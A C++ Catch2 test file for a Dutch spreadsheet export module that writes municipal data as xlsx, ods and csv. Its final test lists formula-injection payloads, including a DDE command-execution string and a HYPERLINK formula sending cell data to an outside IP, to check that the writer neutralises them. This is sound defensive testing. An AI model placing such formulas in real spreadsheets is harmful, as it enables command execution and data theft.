// SPDX-License-Identifier: EUPL-1.2
#include "exchange/workbooks.h"

#include <catch2/catch.hpp>

#include "package_of.h"

using namespace kamerklaar;
using namespace kamerklaar::tests;
using work::WorkbookWriter;
using WrittenKind = WorkbookWriter::CellKind;
using Format = WorkbookWriter::Format;
using Catch::Matchers::Contains;

namespace {

WorkbookWriter::Column column(const std::string& key, const std::string& title,
                              WrittenKind kind = WrittenKind::Text) {
    WorkbookWriter::Column made;
    made.key = key;
    made.title = title;
    made.kind = kind;
    return made;
}

WorkbookWriter::Workbook takingOver() {
    WorkbookWriter::Sheet sheet;
    sheet.name = "Verlening";
    sheet.title = "Verleningen die al zijn gedaan";
    sheet.introduction = {"Vul per gemeente één regel in.", "Laat leeg wat u niet weet."};
    sheet.columns = {column("code", "Gemeentecode"),
                     column("name", "Gemeente"),
                     column("net", "Netto verleend", WrittenKind::Money),
                     column("date", "Datum besluit", WrittenKind::Date),
                     column("year", "Jaar", WrittenKind::Count),
                     column("audit", "Aard controle")};
    sheet.columns[0].isLocked = true;
    sheet.columns[2].help = "Zonder het deel dat in het BTW-compensatiefonds is gestort.";
    sheet.columns[5].choices = {"R", "D1", "D2", "n.v.t."};
    sheet.rows = {{"GM0344", "Utrecht", "123456789", "2024-07-01", "2024", "R"},
                  {"GM0599", "=1+1", "-5", "n.v.t.", "", "D1"}};
    sheet.emptyRows = 5;
    sheet.isProtected = true;
    return {"Overnemen", "overnemen", {sheet}, false, domain::Language::Dutch};
}

const Rows expected = {
    {"Verleningen die al zijn gedaan"},
    {"Vul per gemeente één regel in."},
    {"Laat leeg wat u niet weet."},
    {},
    {"code", "name", "net", "date", "year", "audit"},
    {"Gemeentecode", "Gemeente", "Netto verleend", "Datum besluit", "Jaar", "Aard controle"},
    {"GM0344", "Utrecht", "1234567,89", "2024-07-01", "2024", "R"},
    {"GM0599", "=1+1", "-0,05", "n.v.t.", "", "D1"},
};

}  // namespace

TEST_CASE("what is written as xlsx or ods is read again as it was meant") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods);
    const auto tables = tablesIn(exchange::Workbooks().write(takingOver(), format));
    REQUIRE(tables.size() == 2);
    CHECK(tables[0].sheet == "Verlening");
    CHECK_FALSE(tables[0].isHidden);
    CHECK(tables[0].rows == expected);
    CHECK(tables[1].isHidden);
    CHECK(work::workbookKind(tables) == "overnemen");
}

TEST_CASE("what is written as csv is read again: header and rows of the first sheet") {
    const std::string csv = exchange::Workbooks().write(takingOver(), Format::Csv);
    CHECK(csv ==
          "\xEF\xBB\xBFGemeentecode;Gemeente;Netto verleend;Datum besluit;Jaar;Aard controle\r\n"
          "GM0344;Utrecht;1234567,89;2024-07-01;2024;R\r\n"
          "GM0599;'=1+1;-0,05;n.v.t.;;D1\r\n");
    CHECK(rowsIn(csv) == Rows(expected.begin() + 5, expected.end()));
}

TEST_CASE("the same workbook gives the same bytes") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
    const exchange::Workbooks writer;
    CHECK(writer.write(takingOver(), format) == writer.write(takingOver(), format));
}

TEST_CASE("amounts are written to the cent, however large") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
    WorkbookWriter::Workbook workbook;
    WorkbookWriter::Sheet sheet;
    sheet.name = "Bedragen";
    sheet.columns = {column("", "Bedrag", WrittenKind::Money)};
    sheet.rows = {{"900719925413"}, {"9999999999999"}, {"-1"}, {"0"}, {"10"}, {"4500010"}};
    workbook.sheets = {sheet};
    Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
    rows.erase(rows.begin(), rows.end() - 6);
    // A table program keeps no zeros behind the comma; csv is text.
    const bool isText = format == Format::Csv;
    CHECK(rows == Rows{{"9007199254,13"},
                       {"99999999999,99"},
                       {"-0,01"},
                       {isText ? "0,00" : "0"},
                       {isText ? "0,10" : "0,1"},
                       {isText ? "45000,10" : "45000,1"}});
}

TEST_CASE("numbers with decimals are written as numbers, and what is none as text") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
    WorkbookWriter::Workbook workbook;
    WorkbookWriter::Sheet sheet;
    sheet.columns = {column("", "Deel", WrittenKind::Decimal)};
    sheet.rows = {{"61300"}, {"-1"}, {"72000"}, {"0"}, {"1250125"}, {"–"}};
    workbook.sheets = {sheet};
    Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
    rows.erase(rows.begin(), rows.end() - 6);
    CHECK(rows == Rows{{"61,3"}, {"-0,001"}, {"72"}, {"0"}, {"1250,125"}, {"–"}});
}

TEST_CASE("days are written as days, those before March 1900 too") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
    WorkbookWriter::Workbook workbook;
    WorkbookWriter::Sheet sheet;
    sheet.columns = {column("", "Dag", WrittenKind::Date)};
    sheet.rows = {{"1900-01-01"}, {"1900-02-28"}, {"1900-03-01"}, {"2025-02-01"}, {"2199-12-31"}};
    workbook.sheets = {sheet};
    Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
    rows.erase(rows.begin(), rows.end() - 5);
    CHECK(rows == sheet.rows);
}

TEST_CASE("texts come back as they are, whatever stands in them") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
    WorkbookWriter::Workbook workbook;
    WorkbookWriter::Sheet sheet;
    sheet.columns = {column("", "Tekst")};
    sheet.rows = {{"0012"},       {"a  b   c"}, {" voor en na "}, {"regel 1\nregel 2"},
                  {"<b>&\"';,"},  {"\tx"},      {"=1+1"},         {"+31 6"},
                  {"-"},          {"'=x"},      {"@x"},           {"1.234,56"},
                  {"2025-02-01"}, {"Súdwest"},  {"_x0041_"}};
    workbook.sheets = {sheet};
    Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
    rows.erase(rows.begin(), rows.end() - static_cast<std::ptrdiff_t>(sheet.rows.size()));
    CHECK(rows == sheet.rows);
}

TEST_CASE("what no file can hold is replaced, and a text longer than a cell is cut visibly") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
    WorkbookWriter::Workbook workbook;
    WorkbookWriter::Sheet sheet;
    sheet.columns = {column("", "Tekst")};
    sheet.rows = {{std::string("a\x01") + "b\xFF"}, {std::string(40'000, 'x')}};
    workbook.sheets = {sheet};
    const Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
    CHECK(rows[rows.size() - 2].front() == "a\uFFFDb\uFFFD");
    CHECK(rows.back().front() == std::string(32'000, 'x') + " […]");
}

TEST_CASE("sheets have names that every program takes, each once") {
    const auto format = GENERATE(Format::Xlsx, Format::Ods);
    WorkbookWriter::Workbook workbook;
    for (const std::string name : {"Plan/werkelijk", "plan:WERKELIJK", "", "kamerklaar",
                                   "Een naam die veel langer is dan Excel toelaat",
                                   "Een naam die veel langer is dan Excel"}) {
        WorkbookWriter::Sheet sheet;
        sheet.name = name;
        sheet.columns = {column("", "Kolom")};
        workbook.sheets.push_back(sheet);
    }
    std::vector<std::string> names;
    for (const auto& table : tablesIn(exchange::Workbooks().write(workbook, format))) {
        names.push_back(table.sheet);
    }
    CHECK(names == std::vector<std::string>{"Plan werkelijk", "plan WERKELIJK 2", "Blad",
                                            "kamerklaar 2", "Een naam die veel langer is dan",
                                            "Een naam die veel langer is d 2", "kamerklaar"});
}

TEST_CASE("an xlsx file has what an officer needs: lists, notes, locks, names, a page to print") {
    WorkbookWriter::Workbook workbook = takingOver();
    workbook.isExample = true;
    const std::string xlsx = exchange::Workbooks().write(workbook, Format::Xlsx);
    const std::string sheet = partOf(xlsx, "xl/worksheets/sheet1.xml");
    CHECK_THAT(sheet, Contains("<dataValidation type=\"list\" allowBlank=\"1\" "
                               "showInputMessage=\"1\" showErrorMessage=\"1\""));
    CHECK_THAT(sheet, Contains("sqref=\"F8:F14\""));
    CHECK_THAT(sheet, Contains("<formula1>'kamerklaar'!$C$1:$C$4</formula1>"));
    CHECK_THAT(sheet, Contains("<sheetProtection sheet=\"1\""));
    CHECK_THAT(sheet, !Contains("password="));
    CHECK_THAT(sheet, Contains("<row r=\"6\"") && Contains("hidden=\"1\""));
    CHECK_THAT(sheet, Contains("ySplit=\"7\" topLeftCell=\"A8\"") && Contains("frozen"));
    CHECK_THAT(sheet, Contains("orientation=\"landscape\"") && Contains("fitToHeight=\"0\""));
    CHECK_THAT(sheet, Contains("&amp;C&amp;BVOORBEELDGEGEVENS"));
    CHECK_THAT(partOf(xlsx, "xl/comments1.xml"), Contains("BTW-compensatiefonds"));
    const std::string book = partOf(xlsx, "xl/workbook.xml");
    CHECK_THAT(book, Contains("name=\"kamerklaar\" sheetId=\"2\" state=\"veryHidden\""));
    CHECK_THAT(book, Contains("<definedName name=\"Verlening_net\">'Verlening'!$C$8:$C$14<"));
    CHECK_THAT(book, Contains("_xlnm.Print_Titles"));
    CHECK(rowsIn(xlsx).front() == std::vector<std::string>{"VOORBEELDGEGEVENS"});
}

TEST_CASE("open cells for days, amounts and counts take nothing else, and say so in Dutch") {
    const WorkbookWriter::Workbook workbook = takingOver();
    const std::string sheet =
        partOf(exchange::Workbooks().write(workbook, Format::Xlsx), "xl/worksheets/sheet1.xml");
    CHECK_THAT(sheet, Contains("<dataValidation type=\"date\" allowBlank=\"1\""));
    CHECK_THAT(sheet, Contains("error=\"Vul een datum in, bijvoorbeeld 1-2-2025.\" "
                               "sqref=\"D7:D13\"><formula1>32874</formula1>"));
    CHECK_THAT(sheet, Contains("<dataValidation type=\"decimal\""));
    CHECK_THAT(sheet, Contains("sqref=\"C7:C13\"><formula1>-10000000000</formula1>"));
    CHECK_THAT(sheet, Contains("<dataValidation type=\"whole\" "
                               "operator=\"greaterThanOrEqual\""));
    CHECK_THAT(sheet, !Contains("sqref=\"B"));

    const std::string content =
        partOf(exchange::Workbooks().write(workbook, Format::Ods), "content.xml");
    CHECK_THAT(content, Contains("table:name=\"datum\" table:condition=\"of:cell-content-is-date() "
                                 "and cell-content-is-between(32874,73050)\""));
    CHECK_THAT(content, Contains("<text:p>Vul een geheel getal in van 0 of meer.</text:p>"));
    CHECK_THAT(content, Contains("table:content-validation-name=\"bedrag\""));

    // A list to read is no form.
    WorkbookWriter::Workbook open = workbook;
    open.sheets[0].isProtected = false;
    CHECK_THAT(partOf(exchange::Workbooks().write(open, Format::Xlsx), "xl/worksheets/sheet1.xml"),
               !Contains("<dataValidation type=\"date\""));
}

TEST_CASE("each cell has one list at most, its own before that of its column") {
    WorkbookWriter::Workbook workbook = takingOver();
    WorkbookWriter::OwnCell own;
    own.column = 5;
    own.choices = {"ja", "nee"};
    own.row = 1;
    workbook.sheets[0].ownCells = {own};
    own.choices = workbook.sheets[0].columns[5].choices;
    own.row = 3;
    workbook.sheets[0].ownCells.push_back(own);
    const std::string sheet =
        partOf(exchange::Workbooks().write(workbook, Format::Xlsx), "xl/worksheets/sheet1.xml");
    CHECK_THAT(sheet, Contains("sqref=\"F7\">") && Contains("sqref=\"F8\">") &&
                          Contains("sqref=\"F9:F13\">"));
    CHECK_THAT(sheet, !Contains("sqref=\"F7:") && !Contains("sqref=\"F10"));
}

TEST_CASE("an ods file has the same") {
    WorkbookWriter::Workbook workbook = takingOver();
    workbook.isExample = true;
    const std::string ods = exchange::Workbooks().write(workbook, Format::Ods);
    CHECK(ods.substr(30, 8 + 46) == "mimetypeapplication/vnd.oasis.opendocument.spreadsheet");
    const std::string content = partOf(ods, "content.xml");
    CHECK_THAT(content, Contains("of:cell-content-is-in-list([$'kamerklaar'.$C$1:.$C$4])"));
    CHECK_THAT(content, Contains("table:name=\"Verlening\" table:style-name=\"Blad\" "
                                 "table:protected=\"true\""));
    CHECK_THAT(content, !Contains("protection-key"));
    CHECK_THAT(content, Contains("<table:table-row table:visibility=\"collapse\">"));
    CHECK_THAT(content, Contains("<office:annotation office:display=\"false\""));
    CHECK_THAT(content, Contains("table:name=\"Verlening_net\" "
                                 "table:base-cell-address=\"$'Verlening'.$C$8\" "
                                 "table:cell-range-address=\"$'Verlening'.$C$8:.$C$14\""));
    CHECK_THAT(content, Contains("office:value-type=\"currency\" office:currency=\"EUR\" "
                                 "office:value=\"1234567.89\""));
    CHECK_THAT(partOf(ods, "settings.xml"),
               Contains("config:name=\"VerticalSplitPosition\" config:type=\"int\">7<"));
    CHECK_THAT(partOf(ods, "styles.xml"),
               Contains("style:print-orientation=\"landscape\"") && Contains("VOORBEELDGEGEVENS"));
    CHECK(rowsIn(ods).front() == std::vector<std::string>{"VOORBEELDGEGEVENS"});
}

TEST_CASE("the properties of a workbook have a title and a language, no name and no clock") {
    WorkbookWriter::Workbook workbook = takingOver();
    workbook.language = GENERATE(domain::Language::Dutch, domain::Language::English);
    const std::string tag = workbook.language == domain::Language::Dutch ? "nl-NL" : "en-GB";
    for (const auto& [format, part] :
         {std::pair(Format::Xlsx, "docProps/core.xml"), std::pair(Format::Ods, "meta.xml")}) {
        const std::string properties = partOf(exchange::Workbooks().write(workbook, format), part);
        CHECK_THAT(properties, Contains("<dc:title>Overnemen</dc:title>"));
        CHECK_THAT(properties, Contains("<dc:language>" + tag + "</dc:language>"));
        CHECK_THAT(properties, !Contains("creator") && !Contains("created") && !Contains("date"));
    }
}

TEST_CASE("a csv file on example data says so in its first line; a dash for a gap stays one") {
    WorkbookWriter::Workbook workbook = takingOver();
    workbook.isExample = true;
    workbook.sheets.front().rows = {{"GM0344", "-"}};
    CHECK(exchange::Workbooks().write(workbook, Format::Csv) ==
          "\xEF\xBB\xBFVOORBEELDGEGEVENS\r\n"
          "Gemeentecode;Gemeente;Netto verleend;Datum besluit;Jaar;Aard controle\r\n"
          "GM0344;-;;;;\r\n");
}

TEST_CASE("no text that a table program would reckon comes out as a formula, in any form") {
    const std::vector<std::string> texts = {"=1+1",
                                            "+1+1",
                                            "-1+1",
                                            "@SUM(A1)",
                                            "\t=1+1",
                                            "\n=1+1",
                                            "=cmd|' /C calc'!A0",
                                            "\uFF1D1+1",
                                            "'=1+1",
                                            "=HYPERLINK(\"http://192.0.2.1/?\"&A1)"};
    WorkbookWriter::Sheet sheet;
    sheet.name = "Blad";
    sheet.columns = {column("", "=titel"), column("", "b", WrittenKind::Money)};
    for (const std::string& text : texts) {
        sheet.rows.push_back({text, text});
    }
    const WorkbookWriter::Workbook workbook{"=titel", "", {sheet}, false, domain::Language::Dutch};

    const std::string csv = exchange::Workbooks().write(workbook, Format::Csv);
    bool isQuoted = false;
    bool beginsValue = true;
    for (const char c : csv.substr(3)) {
        // Behind a separator or a line end, and behind the quote that opens a value.
        CHECK_FALSE((beginsValue && std::string("=+-@\t").find(c) != std::string::npos));
        beginsValue = (!isQuoted && (c == ';' || c == '\n')) || (beginsValue && c == '"');
        isQuoted = isQuoted != (c == '"');
    }
    const auto back = rowsIn(csv);
    for (std::size_t at = 0; at < texts.size(); ++at) {
        CHECK(back.at(at + 1).at(0) == texts[at]);
    }
    // A workbook says of each cell that it is a text; nothing in it is a formula.
    CHECK(partOf(exchange::Workbooks().write(workbook, Format::Xlsx), "xl/worksheets/sheet1.xml")
              .find("<f") == std::string::npos);
    CHECK(partOf(exchange::Workbooks().write(workbook, Format::Ods), "content.xml")
              .find("table:formula") == std::string::npos);
}
